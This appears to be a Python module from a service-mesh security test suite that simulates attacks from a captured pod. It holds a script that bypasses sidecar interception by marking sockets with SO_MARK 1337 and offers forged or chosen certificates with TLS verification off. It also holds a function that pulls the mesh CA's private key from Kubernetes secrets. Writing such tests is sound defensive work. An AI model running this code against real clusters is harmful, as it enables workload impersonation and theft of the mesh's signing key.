"""Attacks from inside a running mesh: past the capture of a Pod of one's own, with certificates of one's choice."""

from __future__ import annotations

import base64
from typing import Any

from isthmus.trust import x509

PAST_CAPTURE = """
import json, socket, ssl, sys, tempfile
def connect(address, port):
    connection = socket.socket()
    connection.settimeout(3)
    connection.setsockopt(socket.SOL_SOCKET, 36, 1337)  # as the sidecar itself
    connection.connect((address, int(port)))
    return connection
def said(connection, text):
    connection.sendall(text.encode())
    received = b""
    try:
        while part := connection.recv(65536):
            received += part
    except OSError:
        if not received:
            raise
    return received.decode(errors="replace")
"""

SHOWING = (
    PAST_CAPTURE
    + """
found = {}
for name, (chain, key) in json.loads(sys.argv[2]).items():
    with tempfile.NamedTemporaryFile("w") as file:
        file.write(chain + key)
        file.flush()
        context = ssl.create_default_context()
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        context.set_alpn_protocols(["istio-http/1.1", "istio", "http/1.1"])
        context.load_cert_chain(file.name)
    try:
        secure = context.wrap_socket(connect(sys.argv[1], 5000))
        request = "GET /hello HTTP/1.1\\r\\nHost: helloworld.sample\\r\\nConnection: close\\r\\n\\r\\n"
        found[name] = said(secure, request).partition("\\r\\n")[0]
    except OSError as error:
        found[name] = f"refused: {error}"
print(json.dumps(found))
"""
)
"""Shows each certificate to port 5000 of an address: what is answered to a request, or that it is refused."""


def authority_of(mesh: Any, cluster: str) -> tuple[x509.Issuer, str]:
    """The mesh's own signing key, as whoever has broken into the cluster's API server has it; and the certificates up to the root."""
    core = mesh.core(cluster)
    for name in ("cacerts", "istio-ca-secret"):
        for secret in core.list_namespaced_secret("istio-system", field_selector=f"metadata.name={name}").items:
            pems = {key: base64.b64decode(value).decode() for key, value in secret.data.items()}
            certificate = x509.parse_certificates(pems["ca-cert.pem"])[0]
            return x509.Issuer(certificate, x509.parse_key(pems["ca-key.pem"])), pems["ca-cert.pem"]
    raise AssertionError("the cluster has no authority")
